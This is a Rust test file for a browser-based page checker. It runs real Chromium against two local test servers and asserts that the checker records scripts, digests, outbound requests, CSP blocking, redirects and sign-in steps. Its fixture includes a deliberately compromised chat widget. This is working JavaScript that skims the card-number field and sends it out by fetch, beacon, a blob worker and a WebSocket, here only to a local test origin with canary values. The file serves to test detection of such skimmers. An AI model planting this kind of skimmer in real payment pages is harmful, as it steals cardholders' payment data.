//! Checks of pages served from this test on two local origins (a shop and a
//! "vendor"), in the real Chromium.

use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use serde_json::json;
use sha2::{Digest, Sha384};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, MutexGuard, OnceLock};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};
use vakt_event::page::{CheckFailure, PageSnapshot, BY_PAGE};
use vakt_pages::cdp::{self, Browser, CdpError};
use vakt_pages::{check, CanaryFill, CheckOptions, Step};

const CHROMIUM: &str = "/usr/bin/chromium";

fn chromium_missing() -> bool {
    if Path::new(CHROMIUM).exists() {
        return false;
    }
    eprintln!("{CHROMIUM} is missing: apt-get install chromium; skipping the browser tests");
    true
}

fn options() -> CheckOptions {
    CheckOptions {
        chromium: CHROMIUM.into(),
        timeout: Duration::from_secs(10),
        settle: Duration::from_millis(300),
        ..CheckOptions::default()
    }
}

fn sri(bytes: &[u8]) -> String {
    format!("sha384-{}", STANDARD.encode(Sha384::digest(bytes)))
}

/// What a handler answers.
struct Reply {
    status: u16,
    headers: Vec<(&'static str, String)>,
    body: Vec<u8>,
    /// Send the head and half the body, then hang.
    hang: bool,
}

fn reply(status: u16, content_type: &str, body: impl Into<Vec<u8>>) -> Reply {
    Reply {
        status,
        headers: vec![("Content-Type", content_type.to_owned())],
        body: body.into(),
        hang: false,
    }
}

/// A request as the server received it.
#[derive(Clone, Debug)]
struct Got {
    path: String,
    cookie: String,
    body: String,
}

type Handler = dyn Fn(&Got) -> Reply + Send + Sync;

/// A tiny HTTP/1.1 server on a free port of 127.0.0.1; it stops when
/// dropped, and its connection threads end by themselves.
struct Server {
    origin: String,
    stop: Arc<AtomicBool>,
    got: Arc<Mutex<Vec<Got>>>,
    thread: Option<JoinHandle<()>>,
}

impl Server {
    fn start(listener: TcpListener, handler: Arc<Handler>) -> Server {
        let origin = format!("http://{}", listener.local_addr().unwrap());
        listener.set_nonblocking(true).unwrap();
        let stop = Arc::new(AtomicBool::new(false));
        let got = Arc::new(Mutex::new(Vec::new()));
        let (s, g) = (stop.clone(), got.clone());
        let thread = std::thread::spawn(move || {
            while !s.load(Ordering::Relaxed) {
                match listener.accept() {
                    Ok((conn, _)) => {
                        let (s, g, h) = (s.clone(), g.clone(), handler.clone());
                        std::thread::spawn(move || serve(conn, &*h, &g, &s));
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(5)),
                }
            }
        });
        Server {
            origin,
            stop,
            got,
            thread: Some(thread),
        }
    }

    fn got(&self, path: &str) -> Vec<Got> {
        let got = self.got.lock().unwrap();
        got.iter().filter(|g| g.path == path).cloned().collect()
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

fn serve(conn: TcpStream, handler: &Handler, got: &Mutex<Vec<Got>>, stop: &AtomicBool) {
    conn.set_nonblocking(false).unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut reader = BufReader::new(conn.try_clone().unwrap());
    let mut conn = conn;
    // Keep-alive: answer requests on this connection until it closes.
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line).unwrap_or(0) == 0 {
            return;
        }
        let path = line.split_whitespace().nth(1).unwrap_or("/").to_owned();
        let mut length = 0;
        let mut cookie = String::new();
        loop {
            let mut h = String::new();
            if reader.read_line(&mut h).unwrap_or(0) == 0 {
                return;
            }
            let h = h.trim_end();
            if h.is_empty() {
                break;
            }
            if let Some((k, v)) = h.split_once(':') {
                if k.eq_ignore_ascii_case("content-length") {
                    length = v.trim().parse().unwrap_or(0);
                } else if k.eq_ignore_ascii_case("cookie") {
                    cookie = v.trim().to_owned();
                }
            }
        }
        let mut body = vec![0; length];
        if reader.read_exact(&mut body).is_err() {
            return;
        }
        let request = Got {
            path,
            cookie,
            body: String::from_utf8_lossy(&body).into_owned(),
        };
        let r = handler(&request);
        got.lock().unwrap().push(request);
        let mut head = format!(
            "HTTP/1.1 {} X\r\nContent-Length: {}\r\n",
            r.status,
            r.body.len()
        );
        for (k, v) in &r.headers {
            head.push_str(&format!("{k}: {v}\r\n"));
        }
        head.push_str("Cache-Control: no-store\r\n\r\n");
        if r.hang {
            let _ = conn.write_all(head.as_bytes());
            let _ = conn.write_all(&r.body[..r.body.len() / 2]);
            let until = Instant::now() + Duration::from_secs(30);
            while !stop.load(Ordering::Relaxed) && Instant::now() < until {
                std::thread::sleep(Duration::from_millis(20));
            }
            return;
        }
        if conn.write_all(head.as_bytes()).is_err() || conn.write_all(&r.body).is_err() {
            return;
        }
    }
}

/// The shop (first origin) and the vendor (second origin).
struct Site {
    shop: Server,
    vendor: Server,
    app_js: Vec<u8>,
    widgets_js: Vec<u8>,
    chat_js: Vec<u8>,
}

const PIXEL: &[u8] = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;";

const LOGIN: &str = "<form method=post action=/session>
<input id=user name=user><input id=pass name=pass type=password>
<button id=go>Sign in</button></form>";

const FRAME_JS: &str = "navigator.sendBeacon('/f', 'from the frame');\n";

const INLINE: &str = "window.shopConfig = { currency: 'SEK' };";

fn site() -> Site {
    let shop_l = TcpListener::bind("127.0.0.1:0").unwrap();
    let vendor_l = TcpListener::bind("127.0.0.1:0").unwrap();
    let vendor = format!("http://{}", vendor_l.local_addr().unwrap());
    let vendor_ws = vendor.replace("http:", "ws:");
    // The vendor under another site's name: its frame gets a process of
    // its own (an out-of-process frame).
    let vendor_site = vendor.replace("127.0.0.1", "localhost");
    // The shop's own script loads another of the shop's scripts.
    let app_js = b"var s = document.createElement('script');\ns.src = '/widgets.js';\ndocument.head.appendChild(s);\n".to_vec();
    let widgets_js = b"window.widgets = true;\n".to_vec();
    // A compromised chat widget: copies the card number to its own origin.
    let chat_js = format!(
        "(function () {{
  var sent = false;
  // A worker sends too, out of the page's sight.
  var worker = null;
  try {{
    worker = new Worker(URL.createObjectURL(new Blob([
      \"onmessage = function (e) {{ fetch('{vendor}/w', {{ method: 'POST', body: 'card=' + e.data }}); }};\"
    ], {{ type: 'text/javascript' }})));
  }} catch (e) {{}}
  function leak(e) {{
    var card = e.target;
    if (sent || card.name !== 'cardnumber' || !card.value) return;
    sent = true;
    fetch('{vendor}/collect', {{ method: 'POST', body: 'card=' + card.value }}).catch(function () {{}});
    navigator.sendBeacon('{vendor}/b', 'card=' + card.value);
    if (worker) worker.postMessage(card.value);
  }}
  document.addEventListener('input', leak, true);
  document.addEventListener('change', leak, true);
  try {{ new WebSocket('{vendor_ws}/ws'); }} catch (e) {{}}
}})();\n"
    )
    .into_bytes();
    let html = format!(
        "<!doctype html><html><head><title>Pay</title>
<script>{INLINE}</script>
<script src=\"/app.js\" integrity=\"{}\"></script>
<script src=\"{vendor}/chat.js\"></script>
<script type=\"application/ld+json\">{{\"@type\": \"Store\"}}</script>
</head><body>
<form action=\"/charge\" method=\"post\">
<input name=\"cardholder\" autocomplete=\"cc-name\">
<input name=\"cardnumber\" autocomplete=\"cc-number\">
<input type=\"email\" name=\"email\">
<input type=\"hidden\" name=\"token\" value=\"t\">
<button type=\"submit\">Pay</button>
</form>
<img src=\"{vendor}/pixel.gif?p=pay\" width=\"1\" height=\"1\">
<iframe src=\"{vendor_site}/frame\"></iframe>
</body></html>",
        sri(&app_js)
    );
    let lax = format!(
        "default-src 'self'; script-src 'self' 'unsafe-inline' {vendor}; connect-src 'self' {vendor} {vendor_ws}; img-src 'self' {vendor}; worker-src blob:; frame-src {vendor_site}"
    );
    let strict = format!(
        "default-src 'self'; script-src 'self' 'unsafe-inline' {vendor}; connect-src 'self'; img-src 'self' {vendor}"
    );
    let (a, w, v) = (app_js.clone(), widgets_js.clone(), vendor.clone());
    let shop = Server::start(
        shop_l,
        Arc::new(move |req: &Got| match req.path.as_str() {
            path @ ("/pay" | "/pay-strict") => Reply {
                status: 200,
                headers: vec![
                    ("Content-Type", "text/html; charset=utf-8".into()),
                    (
                        "Content-Security-Policy",
                        if path == "/pay" {
                            lax.clone()
                        } else {
                            strict.clone()
                        },
                    ),
                    (
                        "content-security-policy-report-only",
                        "img-src 'none'".into(),
                    ),
                ],
                body: html.clone().into_bytes(),
                hang: false,
            },
            "/app.js" => reply(200, "text/javascript", a.clone()),
            "/widgets.js" => reply(200, "text/javascript", w.clone()),
            "/500" => reply(500, "text/html", "<h1>it broke</h1>"),
            "/500-empty" => reply(500, "text/html", ""),
            "/hang" => Reply {
                hang: true,
                ..reply(200, "text/html", vec![b' '; 4096])
            },
            "/go-away" => Reply {
                status: 302,
                headers: vec![("Location", format!("{v}/landing"))],
                body: Vec::new(),
                hang: false,
            },
            // Sign-in: a form posts to /session, which sets a cookie.
            "/login" => reply(200, "text/html", LOGIN),
            "/session" if req.body.contains("user=ada") && req.body.contains("pass=s3cret") => {
                Reply {
                    status: 303,
                    headers: vec![
                        ("Location", "/welcome".into()),
                        ("Set-Cookie", "signed=in; Path=/".into()),
                    ],
                    body: Vec::new(),
                    hang: false,
                }
            }
            "/welcome" => reply(200, "text/html", "<p id=\"welcome\">hi</p>"),
            "/account" if req.cookie.contains("signed=in") && req.cookie.contains("sid=given") => {
                reply(200, "text/html", "<p>your cards</p>")
            }
            "/account" => reply(403, "text/html", "<p>sign in first</p>"),
            _ => reply(404, "text/plain", "no"),
        }),
    );
    let c = chat_js.clone();
    let vendor = Server::start(
        vendor_l,
        Arc::new(move |req: &Got| match req.path.as_str() {
            "/chat.js" => reply(200, "text/javascript", c.clone()),
            "/pixel.gif?p=pay" => reply(200, "image/gif", PIXEL),
            "/collect" | "/b" | "/w" => Reply {
                headers: vec![
                    ("Content-Type", "text/plain".into()),
                    ("Access-Control-Allow-Origin", "*".into()),
                ],
                ..reply(204, "", "")
            },
            "/landing" => reply(200, "text/html", "<p>elsewhere</p>"),
            "/frame" => reply(200, "text/html", "<script src=\"/frame.js\"></script>"),
            "/frame.js" => reply(200, "text/javascript", FRAME_JS),
            "/f" => reply(204, "text/plain", ""),
            _ => reply(404, "text/plain", "no"),
        }),
    );
    Site {
        shop,
        vendor,
        app_js,
        widgets_js,
        chat_js,
    }
}

/// Processes still carrying a profile made in `dir`.
fn leftover_browsers(dir: &Path) -> Vec<String> {
    let marker = format!("--user-data-dir={}/", dir.display());
    let mut left = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Some(pid) = e.file_name().to_str().and_then(|p| p.parse::<u32>().ok()) else {
            continue;
        };
        let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
        if cmdline.contains(&marker) {
            left.push(format!("{pid}: {}", &cmdline[..cmdline.len().min(120)]));
        }
    }
    left
}

/// One test's checks: they run one test at a time (two browsers at once
/// would slow both), with their profiles in a directory of the test's own,
/// so that the browsers of another process (another `cargo test`) are not
/// taken for leftovers.
struct Checks {
    tmp: tempfile::TempDir,
    _one: MutexGuard<'static, ()>,
}

impl Checks {
    fn start() -> Checks {
        static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());
        static SYSTEM_TMP: OnceLock<PathBuf> = OnceLock::new();
        let one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
        let system = SYSTEM_TMP.get_or_init(std::env::temp_dir);
        let tmp = tempfile::tempdir_in(system).unwrap();
        // Checks make their profiles under TMPDIR; only one test runs here.
        std::env::set_var("TMPDIR", tmp.path());
        Checks { tmp, _one: one }
    }

    /// Checks a page, then asserts that the check left no browser
    /// process and no profile behind.
    fn check(&self, url: &str, opts: &CheckOptions) -> Result<PageSnapshot, CheckFailure> {
        let started = Instant::now();
        let result = check(url, opts);
        let left = leftover_browsers(self.tmp.path());
        assert!(
            left.is_empty(),
            "browser processes left after checking {url}: {left:?}"
        );
        let dirs: Vec<_> = std::fs::read_dir(self.tmp.path())
            .unwrap()
            .flatten()
            .collect();
        assert!(dirs.is_empty(), "profiles left: {dirs:?}");
        eprintln!(
            "checked {url} in {:?}: {:?}",
            started.elapsed(),
            result.as_ref().map(|s| (s.took_ms, s.browser_peak_rss))
        );
        result
    }
}

#[test]
fn payment_page_scripts_requests_and_headers() {
    if chromium_missing() {
        return;
    }
    let checks = Checks::start();
    let site = site();
    let (shop, vendor) = (&site.shop.origin, &site.vendor.origin);
    let fill = CanaryFill::generate(7);
    let opts = CheckOptions {
        fill: Some(fill.clone()),
        ..options()
    };
    let url = format!("{shop}/pay");
    let started = Instant::now();
    let snap = checks.check(&url, &opts).expect("the payment page checks");
    let wall = started.elapsed();
    eprintln!(
        "payment page: took_ms {} (wall {wall:?}), browser_peak_rss {} MiB",
        snap.took_ms,
        snap.browser_peak_rss >> 20
    );
    assert!(wall < Duration::from_secs(5), "{wall:?}");
    assert!(snap.took_ms > 0 && snap.took_ms < 5000);
    assert!(
        snap.browser_peak_rss > 10 << 20,
        "{}",
        snap.browser_peak_rss
    );
    assert_eq!(snap.url, url);
    assert_eq!(snap.final_url, url);
    assert_eq!(snap.status, Some(200));

    // Scripts: the inline one, the shop's two and the vendor's, with the
    // digests of the bytes served; the ld+json block is data, not a script.
    let by_url = |u: &str| {
        snap.scripts
            .iter()
            .find(|s| s.url == u && !s.inline)
            .unwrap_or_else(|| panic!("no script {u} in {:#?}", snap.scripts))
    };
    assert_eq!(snap.scripts.len(), 6, "{:#?}", snap.scripts);
    let inline = &snap.scripts[0];
    assert!(inline.inline);
    assert_eq!(inline.url, url);
    assert_eq!(inline.sha384, sri(INLINE.as_bytes()));
    assert_eq!(inline.bytes, INLINE.len() as u64);
    assert_eq!(inline.loaded_by, BY_PAGE);
    assert_eq!(inline.source.as_deref(), Some(INLINE));
    let app = by_url(&format!("{shop}/app.js"));
    assert_eq!(app.sha384, sri(&site.app_js));
    assert_eq!(app.bytes, site.app_js.len() as u64);
    assert_eq!(app.loaded_by, BY_PAGE);
    assert_eq!(
        app.source.as_deref().map(str::as_bytes),
        Some(&site.app_js[..])
    );
    let widgets = by_url(&format!("{shop}/widgets.js"));
    assert_eq!(widgets.sha384, sri(&site.widgets_js));
    assert_eq!(widgets.loaded_by, format!("{shop}/app.js"));
    let chat = by_url(&format!("{vendor}/chat.js"));
    assert_eq!(chat.sha384, sri(&site.chat_js));
    assert_eq!(chat.loaded_by, BY_PAGE);
    // The worker's script, made from a blob by the vendor's script.
    let worker = snap
        .scripts
        .iter()
        .find(|s| s.url.starts_with(&format!("blob:{shop}/")))
        .unwrap_or_else(|| panic!("no worker script in {:#?}", snap.scripts));
    let worker_source = format!(
        "onmessage = function (e) {{ fetch('{vendor}/w', {{ method: 'POST', body: 'card=' + e.data }}); }};"
    );
    assert_eq!(worker.sha384, sri(worker_source.as_bytes()));
    assert!(!worker.inline);
    let position = |u: String| snap.scripts.iter().position(|s| s.url == u);
    assert!(position(format!("{shop}/app.js")) < position(format!("{shop}/widgets.js")));

    // Tags as the document holds them, with the integrity attribute.
    assert_eq!(snap.script_tags.len(), 5, "{:#?}", snap.script_tags);
    let app_tag = snap
        .script_tags
        .iter()
        .find(|t| t.src.as_deref() == Some(&format!("{shop}/app.js")))
        .unwrap();
    assert_eq!(app_tag.integrity.as_deref(), Some(&*sri(&site.app_js)));
    assert!(snap
        .script_tags
        .iter()
        .filter(|t| t.src.is_none())
        .all(|t| t.integrity.is_none()));

    // The canaries typed in, and the vendor script carrying the card off.
    assert!(snap.canaries.contains(&fill.card), "{:?}", snap.canaries);
    assert!(snap.canaries.contains(&fill.email) && snap.canaries.contains(&fill.name));
    let request = |u: String| {
        snap.requests
            .iter()
            .find(|r| r.url == u)
            .unwrap_or_else(|| panic!("no request to {u} in {:#?}", snap.requests))
    };
    let fetch = request(format!("{vendor}/collect"));
    assert_eq!(
        (fetch.kind.as_str(), fetch.method.as_str()),
        ("fetch", "POST")
    );
    assert_eq!(fetch.initiator, format!("{vendor}/chat.js"));
    assert_eq!(fetch.body.as_deref(), Some(&*format!("card={}", fill.card)));
    assert_eq!(fetch.blocked, None);
    let beacon = request(format!("{vendor}/b"));
    assert_eq!(
        (beacon.kind.as_str(), beacon.method.as_str()),
        ("beacon", "POST")
    );
    assert_eq!(beacon.initiator, format!("{vendor}/chat.js"));
    assert!(beacon.body.as_deref().unwrap().contains(&fill.card));
    let from_worker = request(format!("{vendor}/w"));
    assert_eq!(from_worker.kind, "fetch");
    assert_eq!(
        from_worker.body.as_deref(),
        Some(&*format!("card={}", fill.card))
    );
    assert!(
        from_worker.initiator.starts_with("blob:"),
        "{from_worker:?}"
    );
    let pixel = request(format!("{vendor}/pixel.gif?p=pay"));
    assert_eq!(
        (pixel.kind.as_str(), pixel.initiator.as_str()),
        ("image", BY_PAGE)
    );
    // The vendor's frame, in a process of its own, and what it sent.
    let frame_site = vendor.replace("127.0.0.1", "localhost");
    let frame_js = by_url(&format!("{frame_site}/frame.js"));
    assert_eq!(frame_js.sha384, sri(FRAME_JS.as_bytes()));
    let from_frame = request(format!("{frame_site}/f"));
    assert_eq!(from_frame.kind, "beacon");
    assert_eq!(from_frame.initiator, format!("{frame_site}/frame.js"));
    assert_eq!(from_frame.body.as_deref(), Some("from the frame"));
    let ws = request(format!("{}/ws", vendor.replace("http:", "ws:")));
    assert_eq!(ws.kind, "websocket");
    assert_eq!(ws.initiator, format!("{vendor}/chat.js"));
    assert_eq!(request(format!("{shop}/widgets.js")).kind, "script");
    assert!(
        snap.requests.iter().all(|r| r.url != url),
        "the page's own document is not one of its requests"
    );
    assert_eq!(site.vendor.got("/collect").len(), 1);

    // Headers, whatever the case of their names.
    assert!(snap
        .csp
        .as_deref()
        .unwrap()
        .contains(&format!("connect-src 'self' {vendor}")));
    assert_eq!(snap.csp_report_only.as_deref(), Some("img-src 'none'"));
}

#[test]
fn csp_blocked_exfiltration_is_recorded_as_blocked() {
    if chromium_missing() {
        return;
    }
    let checks = Checks::start();
    let site = site();
    let vendor = &site.vendor.origin;
    let opts = CheckOptions {
        fill: Some(CanaryFill::generate(8)),
        ..options()
    };
    let snap = checks
        .check(&format!("{}/pay-strict", site.shop.origin), &opts)
        .unwrap();
    let blocked: Vec<_> = snap
        .requests
        .iter()
        .filter(|r| r.blocked.is_some())
        .collect();
    let fetch = blocked
        .iter()
        .find(|r| r.url == format!("{vendor}/collect"))
        .unwrap_or_else(|| panic!("no blocked fetch in {:#?}", snap.requests));
    assert_eq!(fetch.blocked.as_deref(), Some("csp"));
    assert_eq!(fetch.initiator, format!("{vendor}/chat.js"));
    assert_eq!(fetch.kind, "fetch");
    assert!(blocked.iter().any(|r| r.url == format!("{vendor}/b")));
    assert!(site.vendor.got("/collect").is_empty() && site.vendor.got("/b").is_empty());
    // The worker and the frame too: CSP reports a blob URL by its scheme
    // alone and a frame's by its origin. The image is allowed, and nothing
    // else is reported blocked.
    assert!(blocked.iter().any(|r| r.url == "blob"));
    let frame = vendor.replace("127.0.0.1", "localhost");
    assert!(blocked
        .iter()
        .any(|r| r.url == frame && r.kind == "document"));
    assert_eq!(blocked.len(), 5, "{blocked:#?}");
}

#[test]
fn failures_are_told_apart() {
    if chromium_missing() {
        return;
    }
    let checks = Checks::start();
    let site = site();
    let shop = &site.shop.origin;
    let closed = {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap()
    };
    match checks.check(&format!("http://{closed}/pay"), &options()) {
        Err(CheckFailure::Unreachable(why)) => assert!(why.contains("REFUSED"), "{why}"),
        other => panic!("{other:?}"),
    }
    assert_eq!(
        checks.check(&format!("{shop}/500"), &options()),
        Err(CheckFailure::Status(500))
    );
    assert_eq!(
        checks.check(&format!("{shop}/500-empty"), &options()),
        Err(CheckFailure::Status(500))
    );
    let opts = CheckOptions {
        timeout: Duration::from_secs(2),
        ..options()
    };
    let started = Instant::now();
    assert_eq!(
        checks.check(&format!("{shop}/hang"), &opts),
        Err(CheckFailure::Timeout(2))
    );
    let took = started.elapsed();
    assert!(took < Duration::from_millis(3500), "{took:?}");
}

#[test]
fn redirect_to_another_origin_is_recorded() {
    if chromium_missing() {
        return;
    }
    let checks = Checks::start();
    let site = site();
    let url = format!("{}/go-away", site.shop.origin);
    let snap = checks.check(&url, &options()).unwrap();
    assert_eq!(snap.url, url);
    assert_eq!(snap.final_url, format!("{}/landing", site.vendor.origin));
    assert_eq!(snap.status, Some(200));
    assert!(snap.requests.iter().all(|r| !r.url.contains("/landing")));
}

#[test]
fn sign_in_steps_and_cookies_come_before_the_page() {
    if chromium_missing() {
        return;
    }
    let checks = Checks::start();
    let site = site();
    let shop = &site.shop.origin;
    let url = format!("{shop}/account");
    assert_eq!(
        checks.check(&url, &options()),
        Err(CheckFailure::Status(403))
    );
    let opts = CheckOptions {
        cookies: vec![("sid".into(), "given".into())],
        steps: vec![
            Step::Goto(format!("{shop}/login")),
            Step::Fill {
                selector: "#user".into(),
                value: "ada".into(),
            },
            Step::Fill {
                selector: "#pass".into(),
                value: "s3cret".into(),
            },
            Step::Click("#go".into()),
            Step::WaitFor("#welcome".into()),
        ],
        ..options()
    };
    assert!(!format!("{opts:?}").contains("s3cret"), "{opts:?}");
    let snap = checks.check(&url, &opts).unwrap();
    assert_eq!(snap.status, Some(200));
    // What the sign-in loaded is not part of the page's record.
    assert!(
        snap.requests.iter().all(|r| !r.url.contains("/session")),
        "{:#?}",
        snap.requests
    );

    let missing = CheckOptions {
        steps: vec![
            Step::Goto(format!("{shop}/login")),
            Step::Click("#nope".into()),
        ],
        ..options()
    };
    match checks.check(&url, &missing) {
        Err(CheckFailure::Browser(why)) => assert!(why.contains("#nope"), "{why}"),
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_browser_that_died_is_an_error_not_a_signal() {
    if chromium_missing() {
        return;
    }
    let checks = Checks::start();
    // As `vakt` does: with SIGPIPE's default action, a write to the pipe of
    // a browser that died would end this process.
    // SAFETY: setting a signal's disposition to its default.
    unsafe {
        libc::signal(libc::SIGPIPE, libc::SIG_DFL);
    }
    let deadline = || Instant::now() + Duration::from_secs(10);
    let mut browser = Browser::launch(Path::new(CHROMIUM)).unwrap();
    let version = browser
        .send("Browser.getVersion", json!({}), None, deadline())
        .unwrap();
    assert!(version["product"].as_str().unwrap().contains("Chrome"));
    match browser.send("No.suchMethod", json!({}), None, deadline()) {
        Err(CdpError::Protocol { method, .. }) => assert_eq!(method, "No.suchMethod"),
        other => panic!("{other:?}"),
    }
    let _ = browser.send("Browser.close", json!({}), None, deadline());
    let gone = deadline();
    while !cdp::processes_with(browser.marker()).is_empty() && Instant::now() < gone {
        std::thread::sleep(Duration::from_millis(20));
    }
    for _ in 0..3 {
        match browser.send("Browser.getVersion", json!({}), None, deadline()) {
            Err(CdpError::Closed { .. }) => {}
            other => panic!("{other:?}"),
        }
    }
    drop(browser);
    assert!(leftover_browsers(checks.tmp.path()).is_empty());
    let dirs: Vec<_> = std::fs::read_dir(checks.tmp.path())
        .unwrap()
        .flatten()
        .collect();
    assert!(dirs.is_empty(), "{dirs:?}");
}
